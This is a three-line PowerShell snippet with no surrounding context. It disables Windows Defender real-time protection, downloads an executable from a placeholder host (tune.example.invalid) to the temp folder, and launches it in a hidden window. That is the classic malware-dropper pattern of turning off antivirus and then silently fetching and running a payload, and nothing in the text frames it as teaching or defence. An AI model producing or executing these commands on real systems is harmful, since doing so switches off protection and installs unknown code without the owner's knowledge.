Set-MpPreference -DisableRealtimeMonitoring $true
Invoke-WebRequest "https://tune.example.invalid/a.exe" -OutFile "$env:TEMP\a.exe"
Start-Process "$env:TEMP\a.exe" -WindowStyle Hidden
